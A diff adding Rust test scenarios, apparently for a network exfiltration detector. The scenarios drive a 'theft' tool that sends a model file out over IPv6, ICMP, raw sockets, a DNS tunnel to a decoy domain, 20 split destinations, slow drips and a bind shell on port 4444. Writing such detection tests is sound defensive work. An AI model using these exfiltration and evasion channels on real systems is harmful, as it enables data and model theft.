@@ -1,0 +1,77 @@
+//! Ways out: every transport and socket, and every way to make it look little.
+
+use super::{Outcome, outside, theft, theft_checked};
+use std::net::Ipv4Addr;
+use tests::board::{MODEL, Played, Scenario, Skip, Stage};
+
+pub const SCENARIOS: &[Scenario] = &[
+    Scenario { name: "tcp_over_ipv6", about: "TCP, IPv6", play: |stage| over_ipv6(stage, "tcp") },
+    Scenario { name: "udp", about: "UDP", play: |stage| theft(stage, &["none", "--over", "udp"]) },
+    Scenario { name: "udp_443_over_ipv6", about: "UDP 443, IPv6", play: |stage| over_ipv6(stage, "udp") },
+    Scenario { name: "icmp", about: "ICMP echo, a fifth of it", play: |stage| without_port(stage, "icmp") },
+    Scenario { name: "raw_ip", about: "raw IP, a fifth of it", play: |stage| without_port(stage, "raw") },
+    Scenario {
+        name: "packet_socket",
+        about: "packet socket, a fifth of it",
+        play: |stage| theft(stage, &["none", "--over", "packet", "--limit", "1048576"]),
+    },
+    Scenario { name: "dns_tunnel", about: "DNS questions, 128 KiB", play: dns },
+    Scenario { name: "split_over_20_destinations", about: "20 destinations", play: split },
+    Scenario {
+        name: "slow_drip",
+        about: "120 connections of 1 KiB, 2.4 %",
+        play: |stage| theft(stage, &["none", "--over", "drip", "--drip", "120", "1024", "80", "--limit", "122880"]),
+    },
+    Scenario { name: "small_parts", about: "40 connections of 64 KiB", play: small_parts },
+    Scenario { name: "bind_shell", about: "over an accepted connection", play: accepted },
+];
+
+fn over_ipv6(stage: &mut Stage, transport: &str) -> Outcome {
+    if let Some(why) = &stage.network.no_ipv6 {
+        return Err(Skip(why.clone()).into());
+    }
+    let to = format!("[{}]:{}", tests::scene::Network::OUTSIDE_V6, Stage::PORT);
+    theft(stage, &["none", "--over", transport, "--to", &to])
+}
+
+fn without_port(stage: &mut Stage, over: &str) -> Outcome {
+    theft_checked(stage, &["none", "--over", over, "--limit", "1048576"], |expected| {
+        expected.destinations.iter_mut().for_each(|to| to.set_port(0));
+    })
+}
+
+fn dns(stage: &mut Stage) -> Outcome {
+    let world = stage.world(&[])?;
+    let to = format!("{}:53", Stage::OUTSIDE);
+    let deed = ["theft", "none", "--over", "dns", "--limit", "131072", "--name", "t.cdn-stats.com", "--read", MODEL];
+    let lines = stage.act(&[&deed[..], &["--to", &to]].concat())?;
+    let mut expected = stage.truth_of(&lines, None, world, false)?;
+    let names: u64 = lines.iter().filter_map(|line| line["name_bytes"].as_u64()).sum();
+    expected.bytes.insert(0, ("weir.dns.query_bytes", names));
+    Ok(Played::Attack(expected))
+}
+
+fn split(stage: &mut Stage) -> Outcome {
+    let hosts: Vec<Ipv4Addr> = (0..20).map(|number| Ipv4Addr::new(203, 0, 113, 100 + number)).collect();
+    let world = stage.world(&hosts)?;
+    let to: Vec<String> = hosts.iter().map(|host| format!("{host}:{}", Stage::PORT)).collect();
+    let mut deed = vec!["theft", "none", "--over", "split", "--read", MODEL];
+    deed.extend(to.iter().flat_map(|to| ["--to", to]));
+    let lines = stage.act(&deed)?;
+    Ok(Played::Attack(stage.truth_of(&lines, None, world, true)?))
+}
+
+fn small_parts(stage: &mut Stage) -> Outcome {
+    theft(stage, &["none", "--over", "drip", "--drip", "40", "65536", "10", "--limit", "2621440", "--to", &outside()])
+}
+
+fn accepted(stage: &mut Stage) -> Outcome {
+    let at = format!("{}:4444", tests::scene::Network::INSIDE_V4);
+    let thief = stage.begin(&["theft", "none", "--over", "accepted", "--read", MODEL, "--to", &at])?;
+    let came = stage.fetch(&at, b"")?;
+    let lines = stage.lines_of(thief)?;
+    let mut expected = tests::board::Expected::of(&lines, &[&stage.container.id])?;
+    stage.check(&expected, &lines, came)?;
+    expected.bytes.insert(0, ("weir.exfil.accepted_bytes", came.0));
+    Ok(Played::Attack(expected))
+}
